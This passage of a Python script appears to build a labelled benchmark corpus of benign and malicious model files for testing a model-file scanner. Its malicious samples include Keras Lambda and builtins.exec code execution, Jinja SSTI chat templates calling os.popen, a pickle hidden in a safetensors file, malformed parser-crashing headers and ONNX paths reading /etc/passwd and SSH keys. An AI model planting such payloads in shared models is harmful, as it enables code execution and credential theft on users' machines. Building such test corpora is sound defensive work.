    put("benign", "sklearn/forest_300.pkl", pickle.dumps(RandomForestClassifier(n_estimators=300, random_state=0).fit(X, y), protocol=5),
        "300-tree random forest", src)
    put("benign", "pickle/two_pickles.pkl", pickle.dumps({"a": 1}) + pickle.dumps([1, 2, 3]), "two benign pickles in one stream", "pickle stdlib")


# ---------------------------------------------------------------------------------------------
# Keras
# ---------------------------------------------------------------------------------------------

def keras_files():
    import keras
    src = "keras %s (torch backend)" % keras.__version__
    d = os.path.join(OUT, "tmpk"); os.makedirs(d, exist_ok=True)
    m = keras.Sequential([keras.Input((8,)), keras.layers.Dense(16, activation="relu"), keras.layers.Dropout(0.1), keras.layers.Dense(2)])
    m.save(os.path.join(d, "b.keras")); put("benign", "keras/dense.keras", open(os.path.join(d, "b.keras"), "rb").read(), "model.save .keras", src)
    m.save(os.path.join(d, "b.h5")); put("benign", "keras/dense.h5", open(os.path.join(d, "b.h5"), "rb").read(), "model.save legacy .h5", src)
    inp = keras.Input((8,)); x = keras.layers.Dense(4)(inp); f = keras.Model(inp, keras.layers.Concatenate()([x, x]))
    f.save(os.path.join(d, "f.keras")); put("benign", "keras/functional.keras", open(os.path.join(d, "f.keras"), "rb").read(), "functional model", src)
    lam = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda t: t * 2 if True else __import__("os").system("id"))])
    lam.save(os.path.join(d, "l.keras")); put("malicious", "keras/lambda_layer.keras", open(os.path.join(d, "l.keras"), "rb").read(), "Lambda layer with bytecode (real keras save)", "modelscan tests")
    lam.save(os.path.join(d, "l.h5")); put("malicious", "keras/lambda_layer.h5", open(os.path.join(d, "l.h5"), "rb").read(), "Lambda layer in legacy .h5", "modelscan tests")
    # hand-edited configs
    zin = zipfile.ZipFile(os.path.join(d, "b.keras"))
    cfg = json.loads(zin.read("config.json"))

    def rezip(cfg2, extra=None):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as zo:
            for info in zin.infolist():
                data = zin.read(info)
                if info.filename == "config.json":
                    data = json.dumps(cfg2).encode()
                zo.writestr(info.filename, data)
            for k, v in (extra or {}).items():
                zo.writestr(k, v)
        return out.getvalue()

    c2 = json.loads(json.dumps(cfg))
    c2["config"]["layers"][1]["config"]["activation"] = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    put("malicious", "keras/activation_builtins_exec.keras", rezip(c2), "activation deserialised from builtins.exec", "Keras safe_mode bypass write-ups")
    c3 = json.loads(json.dumps(cfg))
    c3["config"]["layers"][1]["module"] = "evil_layers"; c3["config"]["layers"][1]["registered_name"] = "evil_layers>Dense"
    put("malicious", "keras/custom_module.keras", rezip(c3), "layer from a module outside keras", "issue brief")
    put("malicious", "keras/bundled_python.keras", rezip(cfg, {"custom_layers.py": b"import os\nos.system('id')\n"}), "bundled Python file", "issue brief")
    import shutil
    shutil.rmtree(d)


# ---------------------------------------------------------------------------------------------
# GGUF, safetensors, ONNX
# ---------------------------------------------------------------------------------------------

CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
          "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
LLAMA3 = ("{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + "
          "'<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}"
          "{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}")
TOOLS = ("{%- if tools %}{{- '<|im_start|>system\\n' }}{%- for tool in tools %}{{- tool | tojson }}{%- endfor %}{%- endif %}"
         "{%- for message in messages %}{%- if message.role == 'user' %}{{- '<|im_start|>user\\n' + message.content + '<|im_end|>\\n' }}"
         "{%- elif message.role == 'assistant' %}{{- '<|im_start|>assistant\\n' + message.content + '<|im_end|>\\n' }}{%- else %}"
         "{{- raise_exception('bad role') }}{%- endif %}{%- endfor %}{%- set ns = namespace(x=1) %}")


def gguf_files():
    import gguf
    import numpy as np

    def write(template, tensors=True):
        p = os.path.join(OUT, "tmp.gguf")
        w = gguf.GGUFWriter(p, "llama")
        w.add_block_count(1)
        w.add_context_length(128)
        w.add_tokenizer_model("gpt2")
        w.add_token_list(["<s>", "</s>", "a", "b"] + [f"tok{i}" for i in range(2000)])
        if template is not None:
            w.add_chat_template(template)
        if tensors:
            w.add_tensor("tok_embd.weight", np.random.default_rng(0).standard_normal((64, 32), dtype=np.float32))
            w.add_tensor("out.weight", np.ones((32, 32), dtype=np.float16))
        w.write_header_to_file(); w.write_kv_data_to_file(); w.write_tensors_to_file(); w.close()
        data = open(p, "rb").read(); os.remove(p)
        return data

    src = "gguf (llama.cpp gguf-py) GGUFWriter"
    put("benign", "gguf/chatml.gguf", write(CHATML), "ChatML template", src)
    put("benign", "gguf/llama3.gguf", write(LLAMA3), "Llama-3 style template", src)
    put("benign", "gguf/tools.gguf", write(TOOLS), "tool-calling template with namespace()", src)
    put("benign", "gguf/no_template.gguf", write(None), "no template", src)
    put("malicious", "gguf/ssti_subclasses.gguf", write("{{ ''.__class__.__mro__[1].__subclasses__() }}" + CHATML),
        "Jinja SSTI via __class__/__subclasses__ (CVE-2024-34359)", "CVE-2024-34359 write-up")
    put("malicious", "gguf/ssti_globals_os.gguf",
        write("{% for m in messages %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% endfor %}"),
        "cycler.__init__.__globals__.os.popen", "Jinja SSTI write-ups")
    put("malicious", "gguf/ssti_attr_escaped.gguf", write("{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}" + CHATML),
        "attr filter with escaped underscores", "Jinja SSTI filter-bypass write-ups")
    good = write(CHATML)
    bad = bytearray(good); bad[8:16] = struct.pack("<Q", 2**60)
    put("malicious", "gguf/huge_tensor_count.gguf", bytes(bad), "tensor count far beyond the file (parser DoS/overflow)", "GGUF parser CVEs (llama.cpp 2024)")
    put("malicious", "gguf/truncated.gguf", good[: len(good) // 3], "truncated GGUF (tensor data out of bounds)", "own")


def safetensors_files():
    import numpy as np
    from safetensors.numpy import save as st_save
    put("benign", "safetensors/numpy.safetensors", st_save({"a": np.arange(12, dtype=np.float32).reshape(3, 4), "b": np.zeros(5, dtype=np.int64)}),
        "safetensors.numpy.save", "safetensors")

    def st(header, data_len):
        h = json.dumps(header).encode() if not isinstance(header, bytes) else header
        return struct.pack("<Q", len(h)) + h + b"\x00" * data_len

    put("malicious", "safetensors/header_too_long.safetensors", struct.pack("<Q", 2**40) + b'{"a":1}', "header length beyond the file", "safetensors advisories")
    put("malicious", "safetensors/invalid_json.safetensors", st(b'{"a": {"dtype": "F32", ', 16), "header is not JSON", "own")
    put("malicious", "safetensors/out_of_bounds.safetensors", st({"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, 16),
        "tensor past the end of the data", "safetensors advisories")
    put("malicious", "safetensors/overlap.safetensors", st({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                                                            "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, 24),
        "overlapping tensors", "own")
    put("malicious", "safetensors/shape_mismatch.safetensors", st({"a": {"dtype": "F64", "shape": [4], "data_offsets": [0, 8]}}, 8),
        "dtype x shape does not match offsets", "own")
    put("malicious", "safetensors/duplicate_keys.safetensors",
        st(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', 8),
        "duplicate JSON keys", "own")
    hidden = pickle.dumps(R(os.system, CMD), protocol=2)
    h = json.dumps({"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}}).encode()
    put("malicious", "safetensors/hidden_gap_payload.safetensors", struct.pack("<Q", len(h)) + h + b"\x00" * 4 + hidden,
        "undeclared bytes (a pickle) after the last tensor", "own")


def onnx_files():
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    def model(location=None):
        w = numpy_helper.from_array(np.ones((4, 4), dtype=np.float32), "W")
        if location is not None:
            w.ClearField("raw_data")
            w.data_location = TensorProto.EXTERNAL
            for k, v in [("location", location), ("offset", "0"), ("length", "64")]:
                e = w.external_data.add(); e.key = k; e.value = v
        g = helper.make_graph([helper.make_node("MatMul", ["X", "W"], ["Y"])], "g",
                              [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])], [w])
        return helper.make_model(g, producer_name="rampart-bench").SerializeToString()

    src = "onnx %s helper" % onnx.__version__
    put("benign", "onnx/inline.onnx", model(), "inline initializer", src)
    put("benign", "onnx/external_ok.onnx", model("weights.bin"), "external data next to the model", src)
    put("benign", "onnx/external_subdir.onnx", model("data/../weights/w.bin"), "external data in a subdirectory", src)
    put("malicious", "onnx/external_etc_passwd.onnx", model("../../../../etc/passwd"), "external data path traversal", "ONNX external-data advisories")
    put("malicious", "onnx/external_absolute.onnx", model("/root/.ssh/id_rsa"), "absolute external data path", "ONNX external-data advisories")


def main():
    os.makedirs(OUT, exist_ok=True)
    steps = [malicious_pickles, numpy_sklearn, safetensors_files, onnx_files, gguf_files, torch_files, torch_benign, keras_files]
    for s in steps:
        try:
            s()
        except Exception as e:  # a missing library must not stop the rest of the corpus
            print(f"gen_corpus: step {s.__name__} failed: {type(e).__name__}: {e}", file=sys.stderr)
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1)
    n_mal = sum(1 for m in MANIFEST if m["label"] == "malicious")
    print(f"gen_corpus: {len(MANIFEST)} files ({n_mal} malicious, {len(MANIFEST) - n_mal} benign) in {OUT}")


if __name__ == "__main__":
    main()
